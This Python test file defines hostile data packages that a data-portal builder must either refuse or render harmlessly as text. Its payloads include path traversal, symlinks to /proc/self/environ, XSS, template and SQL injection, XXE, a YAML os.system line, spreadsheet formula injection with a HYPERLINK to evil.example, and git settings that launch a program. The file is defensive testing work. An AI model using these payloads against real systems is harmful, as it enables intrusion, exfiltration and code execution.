"""Packages that mean harm: a table of named cases, each made from the fictional package.

    python tests/site/hostile.py FOLDER    # writes each refused case, and the one that holds all that build, to look at

`REFUSED` are cases that must end with a problem at a place. `TEXTS` and `HARMLESS` are those that must build, all of
them in one package, and be shown as the texts that they are.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

SAMPLE = Path(__file__).parents[1] / "sample"

SECRET = "a-secret-that-nobody-meant-to-publish"
"""Of the files outside, to which links and paths lead."""

MARK = "ran_from_data"
"""What a script of the data would set in the browser, or a program of the data would leave on the disk."""

FIRST = "91000000-1001"

RUN = f"window.{MARK}=1"

MARKUP = f"<script>{RUN}</script>{{{{ 7*7 }}}}"


class Package:
    """A copy of tests/sample, to spoil. Beside it is a folder `outside`, which nothing of it may reach."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.outside = root.parent / "outside"
        shutil.copytree(SAMPLE, root)
        self.outside.mkdir(exist_ok=True)

    @property
    def descriptor(self) -> Path:
        return self.root / "datapackage.json"

    def file(self, resource: str) -> Path:
        return self.root / "data" / f"{resource}.csv"

    def note(self, name: str) -> Path:
        return self.root / "content" / "projects" / name

    def described(self) -> Any:
        return json.loads(self.descriptor.read_text("utf-8"))

    def describe(self, change: Callable[[Any], object]) -> None:
        content = self.described()
        change(content)
        self.descriptor.write_text(json.dumps(content, ensure_ascii=False, indent=2), "utf-8")

    def table(self, resource: str) -> list[list[str]]:
        return list(csv.reader(io.StringIO(self.file(resource).read_text("utf-8"), newline="")))

    def write(self, resource: str, table: Sequence[Sequence[str]]) -> None:
        text = io.StringIO(newline="")
        csv.writer(text, lineterminator="\n").writerows(table)
        self.file(resource).write_text(text.getvalue(), "utf-8", newline="")

    def set(self, resource: str, field: str, cell: str, row: int = 2) -> None:
        table = self.table(resource)
        table[row - 1][table[0].index(field)] = cell
        self.write(resource, table)

    def add_resource(self, name: str, header: str = "code", rows: str = "x\n", **properties: object) -> None:
        fields = [{"name": column, "type": "string"} for column in header.split(",")]
        (self.root / "data" / "more.csv").write_text(f"{header}\n{rows}", "utf-8")
        resource: dict[str, object] = {"name": name, "path": "data/more.csv", "schema": {"fields": fields}} | properties
        self.describe(lambda content: content["resources"].append(resource))

    def demand_nothing(self) -> None:
        """Leave no constraint and no key in the descriptor, as a hostile one would."""

        def change(content: Any) -> None:
            for resource in content["resources"]:
                fields = [{k: v for k, v in f.items() if k != "constraints"} for f in resource["schema"]["fields"]]
                resource["schema"] = {"fields": fields}

        self.describe(change)


Change = Callable[[Package], object]


@dataclass(frozen=True)
class Refused:
    """A package that must not be published."""

    name: str
    change: Change
    where: str
    """The place of each problem, as the report begins it."""
    rule: str


# What a change does, in a word


def cell(resource: str, field: str, text: str, row: int = 2) -> Change:
    return lambda package: package.set(resource, field, text, row)


def loose(resource: str, field: str, text: str, row: int = 2) -> Change:
    """A cell where the descriptor demands nothing, so that the portal's own rules must hold."""

    def change(package: Package) -> None:
        package.demand_nothing()
        package.set(resource, field, text, row)

    return change


def said(way: str, value: object) -> Change:
    """A property of the descriptor; `way` is dotted, with numbers for members of lists."""

    def change(content: Any) -> None:
        *parents, last = (int(part) if part.isdigit() else part for part in way.split("."))
        for parent in parents:
            content = content[parent]
        content[last] = value

    return lambda package: package.describe(change)


def outlines(*replaced: str) -> Change:
    """The outlines of areas, in whose text the first of each two texts was replaced by the second."""

    def change(package: Package) -> None:
        file = package.root / OUTLINES_PATH
        text = file.read_text("utf-8")
        for old, new in zip(replaced[::2], replaced[1::2], strict=True):
            text = text.replace(old, new, 1)
        file.write_text(text, "utf-8")
        resource = {"name": "area_outlines", "path": OUTLINES_PATH, "format": "geojson"}
        package.describe(lambda content: content["resources"].append(resource))

    return change


def path(value: str) -> Change:
    return said("resources.5.path", value)


def raw(addition: str) -> Change:
    """A property of the descriptor in the words of JSON."""

    def change(package: Package) -> None:
        text = package.descriptor.read_text("utf-8")
        package.descriptor.write_text(text.replace("{", "{" + addition + ",", 1), "utf-8")

    return change


def whole(text: str) -> Change:
    return lambda package: package.descriptor.write_text(text, "utf-8")


def resource(name: str) -> Change:
    return lambda package: package.add_resource(name)


def note(body: str, name: str = FIRST, by: str = "x", end: str = ".md") -> Change:
    text = f"---\ndate: 2024-10-20\nname: {by}\noffice: x\n---\n{body}\n"
    return lambda package: package.note(name + end).write_bytes(text.encode("utf-8", "surrogatepass"))


def licence(address: str) -> Change:
    return lambda package: package.describe(
        lambda content: content["licenses"].append({"name": "x", "title": f"{MARKUP} {address[:5]}", "path": address})
    )


# Links and files that are none


def link_table(package: Package) -> None:
    target = package.file("agencies").rename(package.outside / "agencies.csv")
    target.write_text(target.read_text("utf-8").replace("Sample", SECRET), "utf-8")
    package.file("agencies").symlink_to(target)


def link_folder(package: Package) -> None:
    (package.root / "data").symlink_to((package.root / "data").rename(package.outside / "data"))


def link_descriptor(package: Package) -> None:
    target = package.descriptor.rename(package.outside / "datapackage.json")
    target.write_text(target.read_text("utf-8").replace("Sample", SECRET), "utf-8")
    package.descriptor.symlink_to(target)


def link_to_memory(package: Package) -> None:
    package.file("agencies").unlink()
    package.file("agencies").symlink_to("/proc/self/environ")


def link_note(package: Package) -> None:
    target = package.outside / "note.md"
    target.write_text(f"---\ndate: 2024-10-20\nname: x\noffice: x\n---\n{SECRET}\n", "utf-8")
    package.note("91000000-2001.md").symlink_to(target)


def link_notes(package: Package) -> None:
    (package.root / "content").rename(package.outside / "content")
    for file in (package.outside / "content" / "projects").iterdir():
        file.write_text(file.read_text("utf-8").replace("test", SECRET), "utf-8")
    (package.root / "content").symlink_to(package.outside / "content")


def instead(file: Callable[[Package], Path], make: Callable[[Path], object]) -> Change:
    def change(package: Package) -> None:
        file(package).unlink(missing_ok=True)
        make(file(package))

    return change


def agencies(package: Package) -> Path:
    return package.file("agencies")


def other_note(package: Package) -> Path:
    return package.note("91000000-2001.md")


def loop(at: Path) -> None:
    at.symlink_to(at)


def endless(at: Path) -> None:
    at.symlink_to("/dev/zero")


# Tables


def twin_agencies(package: Package) -> None:
    package.demand_nothing()
    header, first, second, *rest = package.table("agencies")
    old, other = first[0], second[0]
    package.write("agencies", [header, ["Ab", *first[1:]], ["aB", *second[1:]], *rest])
    table = package.table("projects")
    at = table[0].index("agency_id")
    names = {old: "Ab", other: "aB"}
    package.write("projects", [[*row[:at], names.get(row[at], row[at]), *row[at + 1 :]] for row in table])


def twin_projects(package: Package) -> None:
    table = package.table("projects")
    package.write("projects", [*table, ["Ab-1", *table[1][1:]], ["aB-1", *table[1][1:]]])


def more_suppliers(*ids: str) -> Change:
    def change(package: Package) -> None:
        package.demand_nothing()
        package.write("suppliers", [*package.table("suppliers"), *([i, "บริษัท ทดลอง จำกัด", "", ""] for i in ids)])

    return change


def email(text: str) -> Change:
    def change(package: Package) -> None:
        header, first, *rest = package.table("agencies")
        package.write("agencies", [[*header, "email"], [*first, text], *([*row, ""] for row in rest)])
        # It is no personal datum, whatever it looks like.
        allowed = {"resource": "agencies", "field": "email", "reason": "The offices' own."}
        said("personal_data_allowed", [allowed])(package)
        package.describe(
            lambda content: content["resources"][5]["schema"]["fields"].append({"name": "email", "type": "string"})
        )

    return change


def million(header: str, row: str) -> Change:
    return lambda package: package.add_resource("readings", header, f"{row}\n" * 1_000_000)


def megabytes(package: Package) -> None:
    package.set("projects", "remarks", "ก" * 3_500_000, row=3)


def header_of(label: str) -> Change:
    def change(package: Package) -> None:
        header, *rows = package.table("agencies")
        package.write("agencies", [[*header, label], *([*row, ""] for row in rows)])

    return change


def unclosed(package: Package) -> None:
    package.file("agencies").write_text(package.file("agencies").read_text("utf-8") + '1,"x\n' + "y\n" * 1000, "utf-8")


DESCRIPTOR, PROJECTS, AGENCIES = "datapackage.json", "data/projects.csv", "data/agencies.csv"
SUPPLIERS = "data/suppliers.csv"
OUTLINES_PATH = "data/area_outlines.geojson"
PATH, LEAVES, REMOTE, FORBIDDEN = (
    f"{DESCRIPTOR}, resources[5].path",
    "path-leaves-package",
    "remote-path",
    "control-character",
)
NOTE = f"content/projects/{FIRST}.md"
NEW = f"{DESCRIPTOR}, resources[13].name"

REFUSED = (
    # Ids, which become addresses and names of files
    Refused("id-climbs", loose("projects", "policy_id", "../../etc"), f"{PROJECTS}, row 2, policy_id", "unsafe-id"),
    Refused("id-absolute", loose("projects", "policy_id", "/etc/passwd"), f"{PROJECTS}, row 2, policy_id", "unsafe-id"),
    Refused("id-backslash", loose("projects", "policy_id", "..\\x"), f"{PROJECTS}, row 2, policy_id", "unsafe-id"),
    Refused("id-percent", loose("projects", "policy_id", "%2e%2e%2f"), f"{PROJECTS}, row 2, policy_id", "unsafe-id"),
    Refused("id-markup", loose("projects", "policy_id", "<b>"), f"{PROJECTS}, row 2, policy_id", "unsafe-id"),
    Refused("id-homograph", loose("projects", "policy_id", "о7"), f"{PROJECTS}, row 2, policy_id", "unsafe-id"),
    Refused("id-wide-digits", loose("projects", "policy_id", "０７"), f"{PROJECTS}, row 2, policy_id", "unsafe-id"),
    Refused("id-device", loose("projects", "policy_id", "CON"), f"{PROJECTS}, row 2, policy_id", "unsafe-id"),
    Refused("id-index", loose("projects", "policy_id", "index.html"), f"{PROJECTS}, row 2, policy_id", "unsafe-id"),
    Refused("id-long", loose("projects", "policy_id", "7" * 5000), f"{PROJECTS}, row 2, policy_id", "unsafe-id"),
    Refused("ids-of-agencies-in-case", twin_agencies, f"{AGENCIES}, row 3, agency_id", "duplicate-key"),
    Refused("ids-of-projects-in-case", twin_projects, f"{PROJECTS}, row 28, project_id", "duplicate-key"),
    Refused("supplier-climbs", more_suppliers("../../etc"), f"{SUPPLIERS}, row 7, supplier_id", "unsafe-id"),
    Refused("supplier-markup", more_suppliers("<b>"), f"{SUPPLIERS}, row 7, supplier_id", "unsafe-id"),
    Refused("supplier-as-our-list", more_suppliers("largest"), f"{SUPPLIERS}, row 7, supplier_id", "unsafe-id"),
    Refused("supplier-long", more_suppliers("7" * 5000), f"{SUPPLIERS}, row 7, supplier_id", "unsafe-id"),
    Refused("suppliers-in-case", more_suppliers("s-001"), f"{SUPPLIERS}, row 7, supplier_id", "duplicate-key"),
    Refused(
        "supplier-known-by-a-person",
        more_suppliers("1101700230708"),
        f"{SUPPLIERS}, row 7, supplier_id",
        "personal-data",
    ),
    # Links in the data
    Refused(
        "source-javascript",
        loose("sources", "url", "javascript:alert(1)"),
        "data/sources.csv, row 2, url",
        "unsafe-link",
    ),
    Refused(
        "source-data", loose("sources", "url", "data:text/html,<script>"), "data/sources.csv, row 2, url", "unsafe-link"
    ),
    Refused(
        "source-without-scheme",
        loose("sources", "url", "//evil.example/"),
        "data/sources.csv, row 2, url",
        "wrong-type",
    ),
    Refused(
        "source-homograph",
        loose("sources", "url", "https://bаngkok.example/"),
        "data/sources.csv, row 2, url",
        "unsafe-link",
    ),
    Refused(
        "source-behind-at",
        loose("sources", "url", "https://bangkok.example@203.0.113.9/"),
        "data/sources.csv, row 2, url",
        "unsafe-link",
    ),
    Refused(
        "source-backslash",
        loose("sources", "url", "https://evil.example\\@bangkok.example/"),
        "data/sources.csv, row 2, url",
        "unsafe-link",
    ),
    Refused(
        "email-with-more-recipients",
        email("a@b.example?bcc=x@evil.example"),
        f"{AGENCIES}, row 2, email",
        "unsafe-link",
    ),
    Refused(
        "email-with-a-header", email("a@b.example\nBcc: x@evil.example"), f"{AGENCIES}, row 2, email", "unsafe-link"
    ),
    # Characters
    Refused("nul", cell("projects", "title", "a\0b"), f"{PROJECTS}, row 2, title", FORBIDDEN),
    Refused("escape", cell("projects", "remarks", "\x1b[2J\x1b]0;x\x07"), f"{PROJECTS}, row 2, remarks", FORBIDDEN),
    Refused("c1-control", cell("projects", "remarks", "\x9b2J"), f"{PROJECTS}, row 2, remarks", FORBIDDEN),
    Refused(
        "right-to-left-override", cell("projects", "title", "\u202e000,1 าคาร"), f"{PROJECTS}, row 2, title", FORBIDDEN
    ),
    Refused("isolate", cell("projects", "remarks", "\u2066x"), f"{PROJECTS}, row 2, remarks", FORBIDDEN),
    Refused("no-character", cell("projects", "title", "x\uffff"), f"{PROJECTS}, row 2, title", FORBIDDEN),
    Refused("control-in-a-heading", header_of("x\x07"), f"{AGENCIES}, row 1", FORBIDDEN),
    Refused("override-in-the-descriptor", said("title", "\u202eabc"), f"{DESCRIPTOR}, title", FORBIDDEN),
    Refused("surrogate", raw('"x": "\\ud800"'), DESCRIPTOR, "invalid-json"),
    Refused("control-in-a-key", raw('"\\u0007": 1'), DESCRIPTOR, "invalid-json"),
    Refused("override-in-a-note", note("ราคา \u202e000,1"), f"{NOTE}, line 6", FORBIDDEN),
    Refused("override-as-an-entity", note("ราคา &#x202e;000,1"), f"{NOTE}, line 6", FORBIDDEN),
    Refused("surrogate-in-a-note", note("x", by='"\\ud800"'), f"{NOTE}, name", FORBIDDEN),
    Refused("nul-in-a-note", note("x", by='"\\0"'), f"{NOTE}, name", FORBIDDEN),
    # Paths
    Refused("path-climbs", path("../outside/agencies.csv"), PATH, LEAVES),
    Refused("path-climbs-within", path("data/../../outside/agencies.csv"), PATH, LEAVES),
    Refused("path-absolute", path("/etc/passwd"), PATH, LEAVES),
    Refused("path-of-windows", path("C:\\agencies.csv"), PATH, LEAVES),
    Refused("path-backslash", path("data\\agencies.csv"), PATH, LEAVES),
    Refused("path-percent", path("data/%2e%2e/agencies.csv"), PATH, "invalid-path"),
    Refused("path-nul", path("data/agencies.csv\0.png"), PATH, "invalid-path"),
    Refused("path-list", said("resources.5.path", ["data/agencies.csv", "/etc/passwd"]), PATH, "invalid-path"),
    Refused("path-remote", path("https://127.0.0.1:9/agencies.csv"), PATH, REMOTE),
    Refused("path-file-address", path("file:///etc/passwd"), PATH, REMOTE),
    Refused("path-of-a-share", path("//evil.example/share/agencies.csv"), PATH, REMOTE),
    Refused("path-of-a-bucket", path("s3://evil/agencies.csv"), PATH, REMOTE),
    Refused("table-is-a-link-out", link_table, PATH, LEAVES),
    Refused("table-is-memory", link_to_memory, PATH, LEAVES),
    Refused("table-is-a-pipe", instead(agencies, os.mkfifo), PATH, LEAVES),
    Refused("table-is-a-device", instead(agencies, endless), PATH, LEAVES),
    Refused("table-is-a-folder", instead(agencies, Path.mkdir), PATH, LEAVES),
    Refused("table-is-a-loop", instead(agencies, loop), PATH, LEAVES),
    Refused("folder-is-a-link-out", link_folder, f"{DESCRIPTOR}, resources[", LEAVES),
    Refused("descriptor-is-a-link-out", link_descriptor, DESCRIPTOR, LEAVES),
    Refused("note-is-a-link-out", link_note, "content/projects/91000000-2001.md", LEAVES),
    Refused("note-is-a-pipe", instead(other_note, os.mkfifo), "content/projects/91000000-2001.md", LEAVES),
    Refused("note-is-a-device", instead(other_note, endless), "content/projects/91000000-2001.md", LEAVES),
    Refused("notes-are-a-link-out", link_notes, f"content/projects/{FIRST}", LEAVES),
    # Names
    Refused("resource-climbs", resource("../x"), NEW, "invalid-name"),
    Refused("resource-absolute", resource("/etc/x"), NEW, "invalid-name"),
    Refused("resource-device", resource("con"), NEW, "invalid-name"),
    Refused("resource-device-with-ending", resource("lpt1.x"), NEW, "invalid-name"),
    Refused("resource-in-capitals", resource("PROJECTS"), NEW, "invalid-name"),
    Refused("resource-homograph", resource("prоjects"), NEW, "invalid-name"),
    Refused("resource-long", resource("a" * 101), NEW, "invalid-name"),
    Refused(
        "resource-twice", lambda p: p.add_resource("agencies", "agency_id,name", "x,y\n"), NEW, "duplicate-resource"
    ),
    Refused("package-climbs", said("name", "../../x"), f"{DESCRIPTOR}, name", "invalid-name"),
    Refused("package-device", said("name", "aux"), f"{DESCRIPTOR}, name", "invalid-name"),
    Refused(
        "note-forges-a-line",
        note("x", "x\n::error::\x1b[2J"),
        "content/projects/x\ufffd::error::\ufffd[2J.md",
        "unknown-project",
    ),
    Refused("note-on-nothing", note("x", "..."), "content/projects/....md", "unknown-project"),
    # Descriptors
    Refused(
        "profile-remote",
        said("$schema", "https://127.0.0.1:9/profile.json"),
        f"{DESCRIPTOR}, $schema",
        "unknown-profile",
    ),
    Refused("profile-path", said("profile", "../outside/profile.json"), f"{DESCRIPTOR}, $schema", "unknown-profile"),
    Refused(
        "schema-remote",
        said("resources.5.schema", "https://127.0.0.1:9/schema.json"),
        f"{DESCRIPTOR}, resources[5].schema",
        "missing-schema",
    ),
    Refused(
        "schema-path",
        said("resources.5.schema", "../outside/schema.json"),
        f"{DESCRIPTOR}, resources[5].schema",
        "missing-schema",
    ),
    Refused(
        "dialect-remote",
        said("resources.5.dialect", "https://127.0.0.1:9/dialect.json"),
        f"{DESCRIPTOR}, resources[5].dialect",
        "unsupported",
    ),
    Refused("data-inline", said("resources.5.data", [["a"]]), f"{DESCRIPTOR}, resources[5].data", "unsupported"),
    # Outlines
    Refused(
        "outline-of-a-script",
        outlines('"11"', f'"<script>{RUN}</script>"'),
        f"{OUTLINES_PATH}, features[0].properties.area_id",
        "unknown-key",
    ),
    Refused(
        "outline-with-a-text",
        outlines('"properties":{', '"properties":{"onload":"x","area":"1 2345 67890 12 1",'),
        f"{OUTLINES_PATH}, features[0].properties.onload",
        "undeclared-property",
    ),
    Refused(
        "outline-closes-its-path",
        outlines("[100.48,13.76]", '["0\\"/><script>",13.76]'),
        f"{OUTLINES_PATH}, features[0].geometry.coordinates[0]",
        "wrong-type",
    ),
    Refused(
        "outline-without-end",
        outlines("[100.48,13.76]", "[" * 1_000_000),
        OUTLINES_PATH,
        "invalid-json",
    ),
    Refused("lists-in-lists", whole("[" * 1_000_000), DESCRIPTOR, "invalid-json"),
    Refused("objects-in-objects", raw('"x": ' + '{"x": ' * 200 + "1" + "}" * 200), DESCRIPTOR, "invalid-json"),
    Refused("number-without-end", raw('"x": 1e999999999'), DESCRIPTOR, "invalid-json"),
    Refused("digits-without-end", raw('"x": ' + "9" * 100_000), DESCRIPTOR, "invalid-json"),
    Refused("not-a-number", raw('"x": NaN'), DESCRIPTOR, "invalid-json"),
    Refused("key-twice", raw('"resources": []'), DESCRIPTOR, "invalid-json"),
    # Much
    Refused("cell-of-ten-megabytes", megabytes, f"{PROJECTS}, line 4", "cell-too-long"),
    Refused("million-broken-rows", million("code,value", "x"), "data/more.csv, ", "too-few-cells"),
    Refused("quotation-mark-without-end", unclosed, f"{AGENCIES}, line 7", "broken-quotes"),
    Refused(
        "cell-number-without-end",
        cell("projects", "budget_received", "1e999999999"),
        f"{PROJECTS}, row 2, budget_received",
        "wrong-type",
    ),
    Refused(
        "cell-of-digits",
        cell("projects", "budget_received", "9" * 100_000),
        f"{PROJECTS}, row 2, budget_received",
        "too-many-digits",
    ),
    Refused("note-of-two-megabytes", note("x " * 1_000_000), NOTE, "page-too-long"),
    Refused("title-without-end", cell("projects", "title", "ก" * 20_000), f"{PROJECTS}, row 2, title", "name-too-long"),
    # Prose
    Refused("note-remote-picture", note("![x](https://evil.example/x.png)"), f"{NOTE}, line 6", "picture"),
    Refused(
        "licence-javascript", licence(f"javascript:{RUN}"), "datapackage.json, licenses[1].path", "invalid-address"
    ),
    Refused(
        "licence-attribute",
        licence(f'https://x.example/" onclick="{RUN}'),
        "datapackage.json, licenses[1].path",
        "invalid-address",
    ),
    Refused("note-javascript-link", note("[a](javascript:x)"), f"{NOTE}, line 6", "unsafe-link"),
    Refused("note-link-to-another-host", note("[b](//evil.example/)"), f"{NOTE}, line 6", "unsafe-link"),
    Refused("note-link-with-a-hidden-slash", note("[b](/%2Fevil.example/)"), f"{NOTE}, line 6", "unsafe-link"),
    Refused(
        "note-runs-python",
        note("x", by="!!python/object/apply:os.system [id]"),
        f"{NOTE}, line 3",
        "invalid-front-matter",
    ),
    Refused("note-of-a-billion-laughs", note("x", by="[" * 500 + "]" * 500), f"{NOTE}", "invalid-front-matter"),
)


# What must be built, all of it in one package, and shown as it is


TEXTS = {
    "script": f"<script>{RUN}</script>",
    "script-out-of-a-data-block": f'</script><script>{RUN}</script>"}}',
    "script-out-of-a-comment": f"--><script>{RUN}</script><!--",
    "script-out-of-cdata": f"]]><script>{RUN}</script>",
    "script-out-of-a-title": f"</title></textarea></noscript><script>{RUN}</script>",
    "picture-that-fails": f"<img src=x onerror={RUN}>",
    "picture-remote": "<img src=https://evil.example/x.png srcset=https://evil.example/y.png>",
    "svg": f"<svg onload={RUN}><a xlink:href=javascript:{RUN}>x</a></svg>",
    "frame": f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    "object": "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "base": "<base href=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "style": "<style>*{background:url(https://evil.example/)}</style>",
    "form": "<form action=https://evil.example/><button>x</button></form>",
    "attribute": f'" onmouseover="{RUN}" x="',
    "attribute-in-single-quotes": f"' autofocus onfocus='{RUN}",
    "attribute-in-backticks": f"`onload={RUN}`",
    "entities": "&lt;script&gt; &#60;b&#62; &amp;lt; &quot;",
    "javascript-link": f"javascript:{RUN}",
    "javascript-link-in-markdown": f"[x](javascript:{RUN}) <javascript:{RUN}>",
    "picture-in-markdown": "![x](https://evil.example/x.png)",
    "template": "{{ 7*7 }} {% for x in range(9) %}{{ x }}{% endfor %} {# x #}",
    "template-that-climbs": "{{ ''.__class__.__mro__[1].__subclasses__() }} {{ config }}",
    "format": "%(name)s %s %d %n {0} {name.__class__} ${x} #{x}",
    "shell": "$(touch /tmp/x) `touch /tmp/x` ; touch /tmp/x | x",
    "sql": "'; DROP TABLE projects; --",
    "entity-of-a-file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "tex": "}} \\\\input{/etc/passwd} \\\\write18{id} {",
    "path": "../../../../etc/passwd",
    "prototype": "__proto__",
    "separators": 'a",""",;|\ta',
    "formula": '=HYPERLINK("https://evil.example/?x="&A1,"x")',
    "formula-of-a-program": "=cmd|' /C calc'!A0",
    "formula-with-plus": "+1+cmd|' /C calc'!A0",
    "formula-with-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-with-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-after-a-tab": "\t=1+1",
    "formula-after-a-line": "\n=1+1",
    "formula-in-wide-letters": "＝1+1",
    "formula-in-the-code-of-excel": "_x003D_1+1 _x0000_",
    "zero-width-spaces": "กรุง\u200bเทพ\u200bมหานคร",
    "marks-of-direction": "\u200fabc\u200e",
    "letters-of-another-script": "Ваngkоk Рrоjесt",
    "marks-upon-marks": "ก" + "\u0e49" * 400,
    "line-separators": "a\u2028b\u2029c",
    "emoji": "👩\u200d👩\u200d👧 \U0001f3f4\U000e0067\U000e0062",
    "a-word-of-many-letters": "ก" * 500,
}
"""Each is the title, the remarks, a column that the portal does not know, and the report of a project of its own."""


def id_of(text: str) -> str:
    """The project whose texts are those of the case named `text`."""
    return f"91000000-{7000 + list(TEXTS).index(text)}"


@dataclass(frozen=True)
class Harmless:
    """A part of the package that builds."""

    name: str
    change: Change
    file: str
    """In the site."""
    shown: str = ""
    """What its text holds there."""


def field(column: str, **properties: object) -> Change:
    """What the descriptor says of a column of projects."""

    def change(content: Any) -> None:
        next(f for f in content["resources"][0]["schema"]["fields"] if f["name"] == column).update(properties)

    return lambda package: package.describe(change)


def column(name: str) -> Change:
    """A column of projects that the portal does not know."""

    def change(package: Package) -> None:
        package.describe(lambda content: content["resources"][0]["schema"]["fields"].append({"name": name}))
        header, *rows = package.table("projects")
        package.write("projects", [[*header, name], *([*row, MARKUP] for row in rows)])

    return change


def words_for_nothing(package: Package) -> None:
    """A cell of numbers that is a formula, since the descriptor calls it a word for no value."""
    field("budget_spent", missingValues=["", "=1+1", "-", "@x"], title='=HYPERLINK("https://evil.example/")')(package)
    for row, text in ((2, "=1+1"), (3, "-"), (4, "@x")):
        package.set("projects", "budget_spent", text, row)


def note_of_many_letters(package: Package) -> None:
    """As much Thai as a cell may hold, without a space."""
    package.set("projects", "remarks", "การดำเนินงานโครงการปรับปรุงถนน" * 3_000, row=3)


def with_a_mark(package: Package) -> None:
    package.descriptor.write_bytes(b"\xef\xbb\xbf" + package.descriptor.read_bytes())


HARMLESS = (
    Harmless("title", said("title", MARKUP), "data/index.html", MARKUP),
    Harmless("english-title", said("title_en", MARKUP), "en/index.html", MARKUP),
    Harmless("description", said("description", MARKUP), "data/index.html", MARKUP),
    Harmless("notice", said("notice", MARKUP), "index.html", MARKUP),
    Harmless("version", said("version", f'1"{MARKUP}'), "index.html", f'1"{MARKUP}'),
    Harmless("keywords", said("keywords", [MARKUP]), "data/datapackage.json", f"<script>{RUN}"),
    Harmless("homepage", said("homepage", f"javascript:{RUN}"), "data/datapackage.json", f"javascript:{RUN}"),
    Harmless("licence", licence("https://x.example/?a=%22%20onclick=x"), "index.html", f"{MARKUP} https"),
    Harmless("agency", cell("agencies", "name", MARKUP), "agencies/91000000/index.html", MARKUP),
    Harmless("source", cell("sources", "publisher", MARKUP), f"projects/{FIRST}/index.html", MARKUP),
    Harmless("supplier", cell("suppliers", "name", MARKUP), "suppliers/S-001/index.html", MARKUP),
    Harmless("contract", cell("contracts", "title", MARKUP), "contracts/index.html", MARKUP),
    Harmless(
        "strategy", cell("projects", "strategy", f"../../x {MARKUP}"), "strategies/index.html", f"../../x {MARKUP}"
    ),
    Harmless("strategy-device", cell("projects", "strategy", "CON", row=3), "strategies/con-/index.html", "CON"),
    Harmless(
        "column-title", field("remarks", title=MARKUP, description=MARKUP), f"projects/{FIRST}/index.html", MARKUP
    ),
    Harmless("column-unit", field("weight", unit=MARKUP), "data/index.html", MARKUP),
    Harmless(
        "column-labels",
        field("unit", enum_labels={"แห่ง": {"th": "=1+1", "en": MARKUP}}),
        "en/data/index.html",
        MARKUP,
    ),
    Harmless(
        "column-called-as-markup", column(f"<b onclick={RUN}>"), f"projects/{FIRST}/index.html", f"<b onclick={RUN}>"
    ),
    Harmless("column-called-as-a-formula", column("=1+1"), f"projects/{FIRST}/index.html", "=1+1"),
    Harmless("column-called-as-a-prototype", column("__proto__"), "data/csv-metadata.json", '"__proto__"'),
    Harmless("column-called-as-a-path", column("../../x"), f"projects/{FIRST}/index.html", "../../x"),
    Harmless("words-for-nothing", words_for_nothing, "data/index.html", "=1+1"),
    Harmless("resource-called-as-our-changes", resource("changes"), "data/changes-package.csv"),
    Harmless("resource-called-as-our-signals", resource("signals"), "data/signals-package.csv"),
    Harmless("resource-called-as-our-report", resource("quality"), "data/quality/index.html"),
    Harmless("resource-called-as-our-descriptor", resource("datapackage"), "data/datapackage.parquet"),
    Harmless("resource-called-as-our-sums", resource("sha256sums"), "data/SHA256SUMS", "sha256sums.csv"),
    Harmless("resource-of-a-hundred-letters", resource("r" * 100), f"data/{'r' * 100}.parquet"),
    Harmless("package-of-a-hundred-letters", said("name", "p" * 100), f"data/{'p' * 100}.zip"),
    Harmless(
        "note-with-markup",
        note(f"## glance\n\n## note\n\n## content\n\n{MARKUP}\n\n`[a](javascript:{RUN})` <img src=x onerror={RUN}>"),
        f"projects/{FIRST}/index.html",
        f"[a](javascript:{RUN})",
    ),
    Harmless(
        "note-in-english-with-markup",
        note(MARKUP, by=f"'{MARKUP}'", end=".en.md"),
        f"en/projects/{FIRST}/index.html",
        MARKUP,
    ),
    Harmless("cell-as-long-as-can-be", note_of_many_letters, "projects/91000000-2001/index.html", "ปรับปรุงถนนการ" * 1),
    Harmless("descriptor-with-a-mark", with_a_mark, "data/datapackage.json"),
)


def git(folder: Path, *arguments: str, given: str = "") -> str:
    who = {f"GIT_{role}_{what}": "x" for role in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    command: list[str | Path] = ["git", "-C", folder, *arguments]
    result = subprocess.run(command, check=True, capture_output=True, text=True, input=given, env=os.environ | who)
    return result.stdout.strip()


SIGNATURE = "gpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----\n\n"


def with_a_signed_commit(package: Package) -> None:
    """The package as it is becomes a commit whose signature git would have checked by the program that it is told."""
    if not (package.root / ".git").exists():
        git(package.root, "init", "-q", "-b", "main")
    git(package.root, "add", "-A")
    git(package.root, "commit", "-qm", MARKUP)
    head, _, message = git(package.root, "cat-file", "commit", "HEAD").partition("\n\n")
    signed = git(package.root, "hash-object", "-t", "commit", "-w", "--stdin", given=f"{head}\n{SIGNATURE}{message}")
    git(package.root, "update-ref", "HEAD", signed)


def with_settings_that_run_a_program(package: Package) -> None:
    """The settings of the package's own repository, as in a folder that somebody sent."""
    program = package.outside / "program"
    program.write_text(f"#!/bin/sh\ntouch {package.outside / MARK}\nexit 1\n", "utf-8")
    program.chmod(0o755)
    git(package.root, "config", "log.showSignature", "true")
    for name in ("gpg.program", "core.fsmonitor", "core.pager", "core.sshCommand", "core.editor", "diff.external"):
        git(package.root, "config", name, str(program))
    git(package.root, "config", "remote.origin.url", f"ext::{program}")
    git(package.root, "config", "remote.origin.promisor", "true")
    git(package.root, "config", "extensions.partialClone", "origin")
    git(package.root, "config", "core.repositoryFormatVersion", "1")
    git(package.root, "config", "protocol.ext.allow", "always")


def make_harmless(root: Path) -> Package:
    """The package that holds all that must build. Its last commit brings the texts, so that they are changes too."""
    package = Package(root)
    header, *rows = package.table("projects")
    reports = package.table("progress_reports")
    first = dict(zip(header, rows[0], strict=True))
    taken = {column: first[column] for column in ("agency_id", "source_id", "budget_received")}
    for name in TEXTS:
        own = taken | {"project_id": id_of(name), "title": name, "fiscal_year": "2569"}
        rows.append([own.get(column, "") for column in header])
        reports.append([id_of(name), "2025-12-01", "", "", "", ""])
    package.write("projects", [header, *rows])
    package.write("progress_reports", reports)
    with_a_signed_commit(package)
    # What no check ever let pass is no release: git has it, and the site has not.
